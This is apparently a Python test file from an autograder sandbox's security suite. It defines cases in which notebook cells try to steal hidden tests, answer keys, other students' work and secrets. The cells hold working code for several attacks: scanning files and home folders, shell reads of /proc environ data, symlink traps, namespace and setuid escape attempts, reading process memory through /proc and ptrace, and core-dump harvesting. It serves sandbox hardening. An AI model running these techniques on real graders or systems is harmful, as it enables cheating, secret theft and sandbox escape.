"""Ways to what must stay unknown: tests, oracles, answers, secrets, other people's work. Whatever is found is told in the
public message of q1, in the output, in names, and to every listener that would hear it."""

from __future__ import annotations

from typing import Any

from tests import target
from tests.attacks.cases import FULL, Case

TOOLS = r"""
import ctypes, gc, glob, os, re, socket, subprocess, sys
PATTERN = re.compile(rb"MARK-[a-z-]+-[0-9a-f]{4}|(?:5a){32}")
FOUND = set()

def look(data):
    data = data if isinstance(data, bytes) else str(data).encode("utf-8", "replace")
    if b"MARK-" in data or b"5a5a5a5a" in data:
        FOUND.update(found.decode() for found in PATTERN.findall(data))

def attempt(action, *arguments, **more):
    try:
        return action(*arguments, **more)
    except Exception:
        return None

def read(path, most=1 << 20):
    def contents():
        with open(path, "rb") as file:
            look(file.read(most))
    attempt(contents)

def walk(top, most=400):
    for here, folders, names in os.walk(top):
        look(" ".join(names))
        for name in names[:most]:
            read(os.path.join(here, name))
        most -= len(names)
        if most < 0:
            return

def frames(depth=1):
    frame = sys._getframe(depth)
    while frame is not None:
        yield frame
        frame = frame.f_back

def search(thing):
    # Texts, code and names that can be reached from an object.
    for name in ("__code__", "__closure__", "__globals__", "__dict__", "__defaults__", "__self__", "__wrapped__"):
        found = attempt(getattr, thing, name, None)
        if isinstance(found, dict):
            found = [value for value in found.values() if isinstance(value, (str, bytes))]
        look(repr(getattr(found, "co_consts", found))[:100_000]) if found is not None else None
"""
TELL = 'print("found", *sorted(FOUND))'
TELLING = 'def double(x):\n    raise RuntimeError("found " + " ".join(sorted(FOUND)))'
HONEST = FULL | {"q1": 0.0}


def reading(name: str, tries: str, *cells: str, **more: Any) -> Case:
    """What the cells find, they tell."""
    answers = {"q1": TELLING, **{q: more.pop(q) for q in target.QUESTIONS if q in more}}
    setup, *rest = target.cells(**answers)
    scores = more.pop("scores", HONEST)
    told = (setup, TOOLS, *cells, TELL, *rest)
    return Case(name=name, family="leak", tries=tries, cells=told, scores=scores, **more)


FILES = (
    reading("bundle_on_disk", "Reads the bundle, whose path it knows.", "walk(TOLD['bundle'])"),
    reading(
        "repository_on_disk",
        "Reads the repository: masters, oracles, answers and tests.",
        "for name in ('tests', 'assignments', 'solutions', 'autograder', 'dist', 'build'):\n"
        "    walk(os.path.join(TOLD['repository'], name), 120)",
    ),
    reading(
        "another_submission",
        "Reads somebody else's notebook.",
        "read(TOLD['other'])\nwalk(os.path.dirname(TOLD['other']))",
    ),
    reading(
        "home_folder",
        "Reads the home folder of whoever grades: keys, history, notes.",
        "for home in (TOLD['home'], os.path.expanduser('~'), '/root', '/home'):\n    walk(home, 60)",
    ),
    reading(
        "tests_beside_the_notebook",
        "Looks for tests and oracles in its own folder and those above, by name and by import.",
        """
for pattern in ('**/*.py', '../**/*.py', '../../*/*.py', '**/*.json', '/autograder/**/*'):
    for name in glob.glob(pattern, recursive=True)[:200]:
        read(name)
for name in ('tests.q1', 'solutions.target', 'solutions', 'target'):
    module = attempt(__import__, name)
    read(getattr(module, '__file__', None) or '') if module else None""",
    ),
    reading(
        "shell_and_magics",
        "Reads through the shell and IPython's magics instead of open().",
        """
ip = get_ipython()
for command in (f"cat {TOLD['bundle']}/*/*", f"find {TOLD['bundle']} -type f -exec cat {{}} +", "cat tests/*.py",
                f"cat {TOLD['other']}", "ps axeww", "cat /proc/*/environ"):
    for text in attempt(ip.getoutput, command) or ():
        look(text)
    look(attempt(subprocess.run, ['bash', '-c', command], capture_output=True, timeout=5).stdout)""",
        "%%bash\ncat $PWD/tests/*.py tests/*.py 2>/dev/null || true",
    ),
    reading(
        "leftovers_in_common_folders",
        "Reads what lies in the temporary folder, /tmp, /dev/shm, /var/tmp and /run: unpacked bundles, results, work.",
        """for top in (TOLD['temporary'], os.path.dirname(os.getcwd()), '/dev/shm', '/dev/mqueue', '/run/lock'):
"""
        "    walk(top, 150)\nlook(' '.join(os.listdir('/tmp')))",
    ),
    reading(
        "links_to_the_bundle",
        "Leaves links under the names of its own files, in the hope that a more powerful process follows them.",
        """
for n, source in enumerate(glob.glob(TOLD['bundle'] + '/*/*') or [TOLD['bundle'] + '/tests/q1.py', TOLD['other']]):
    for make in (os.symlink, os.link):
        attempt(make, source, f'link{n}.{make.__name__}')
attempt(os.remove, 'checks.py')
attempt(os.symlink, TOLD['bundle'] + '/tests/q1.py', 'checks.py')
walk('.')""",
    ),
    reading(
        "another_root",
        "Makes namespaces, mounts, changes the root and asks setuid programs.",
        """
libc = ctypes.CDLL(None, use_errno=True)
attempt(lambda: os.chroot('.')), attempt(os.chdir, '../../../../../../..')
libc.mount(b'proc', b'proc', b'proc', 0, None), libc.unshare(0x10020000), libc.setuid(0)
for command in ('unshare -Urmpf cat', 'sudo -n cat', 'su -c', 'nsenter -t 1 -m cat', 'chroot . cat'):
    tried = [*command.split(), TOLD['bundle'] + '/tests/q1.py']
    done = attempt(subprocess.run, tried, capture_output=True, stdin=subprocess.DEVNULL, timeout=5)
    look(done.stdout) if done else None
walk(TOLD['bundle'])""",
        safe=False,
    ),
)
MEMORY = """
def memory(pid, most=64 << 20):
    try:
        with open(f'/proc/{pid}/maps') as maps, open(f'/proc/{pid}/mem', 'rb', 0) as mem:
            for line in maps:
                span, rights, *_ = line.split()
                start, end = (int(part, 16) for part in span.split('-'))
                if rights.startswith('rw') and '[v' not in line and most > 0:
                    mem.seek(start)
                    data = attempt(mem.read, min(end - start, most)) or b''
                    most -= len(data)
                    look(data)
    except (OSError, ValueError):
        pass
def ancestors():
    pid = os.getppid()
    while pid > 1:
        yield pid
        try:
            pid = int(open(f'/proc/{pid}/stat').read().rpartition(')')[2].split()[1])
        except OSError:
            return
"""
PROCESSES = (
    reading(
        "memory_of_the_parents",
        "Reads the memory of every process it descends from through /proc.",
        MEMORY,
        "for pid in {*ancestors(), *range(max(1, os.getpid() - 8), os.getpid())}:\n    memory(pid)",
        safe=False,
    ),
    reading(
        "process_vm_readv",
        "Reads other processes' memory by system calls: process_vm_readv, ptrace, pidfd_getfd.",
        """
libc = ctypes.CDLL(None, use_errno=True)
buffer = ctypes.create_string_buffer(1 << 20)
class Vector(ctypes.Structure):
    _fields_ = [('base', ctypes.c_void_p), ('size', ctypes.c_size_t)]
local = Vector(ctypes.addressof(buffer), len(buffer))
for pid in {os.getppid(), *range(max(2, os.getpid() - 6), os.getpid())}:
    libc.ptrace(16, pid, None, None)
    descriptor = libc.syscall(434, pid, 0)
    for number in range(12):
        libc.syscall(438, descriptor, number, 0)
    for thing in (b'', TOLD, read):
        remote = Vector(id(thing) & ~0xfffff, len(buffer))
        libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
        look(buffer.raw)""",
        safe=False,
    ),
    reading(
        "everybody_in_proc",
        "Reads environment, command line, folder, root and open files of every process in /proc.",
        """
for pid in [name for name in os.listdir('/proc') if name.isdigit()]:
    for name in ('environ', 'cmdline', 'maps', 'status', 'stack', 'net/unix'):
        read(f'/proc/{pid}/{name}')
    for name in attempt(os.listdir, f'/proc/{pid}/fd') or ():
        look(attempt(os.readlink, f'/proc/{pid}/fd/{name}') or '')
    for place in ('cwd', 'root'):
        look(attempt(os.readlink, f'/proc/{pid}/{place}') or '')
        walk(f'/proc/{pid}/cwd', 20) if place == 'cwd' else read(f'/proc/{pid}/root{TOLD["bundle"]}/tests/q1.py')""",
    ),
    reading(
        "inherited_descriptors",
        "Reads from every descriptor that could have been inherited.",
        """
for descriptor in range(3, 256):
    look(attempt(os.pread, descriptor, 1 << 20, 0) or b'')
    peek = socket.MSG_PEEK | socket.MSG_DONTWAIT
    look(attempt(lambda: socket.fromfd(descriptor, socket.AF_UNIX, socket.SOCK_STREAM).recv(1 << 20, peek)) or b'')
    look(attempt(os.readlink, f'/proc/self/fd/{descriptor}') or '')
    walk(f'/proc/self/fd/{descriptor}', 20)""",
    ),
    reading(
        "environment_and_arguments",
        "Reads its own environment and arguments, as Python, the kernel and the C library keep them.",
        """
look(repr(dict(os.environ))), look(repr((sys.argv, sys.orig_argv)))
read('/proc/self/environ'), read('/proc/self/cmdline'), read('/proc/self/auxv')
libc = ctypes.CDLL(None)
environ, n = ctypes.POINTER(ctypes.c_char_p).in_dll(libc, 'environ'), 0
while environ and environ[n]:
    look(environ[n]); n += 1""",
    ),
    reading(
        "own_memory",
        "Searches its own memory for what the processes it was forked from had read.",
        MEMORY,
        "memory('self', 300 << 20)",
    ),
    reading(
        "core_dump",
        "Raises its core limit, crashes a child, and reads the core; asks for one of its parent.",
        """
import resource, signal
attempt(resource.setrlimit, resource.RLIMIT_CORE, (-1, -1))
child = os.fork()
if child == 0:
    os.abort()
os.waitpid(child, 0)
attempt(subprocess.run, ['gcore', str(os.getppid())], capture_output=True, timeout=5)
for name in glob.glob('core*') + glob.glob('/var/crash/*') + glob.glob('/var/lib/systemd/coredump/*'):
    read(name, 1 << 26)""",
    ),
)
CASES = (*FILES, *PROCESSES)
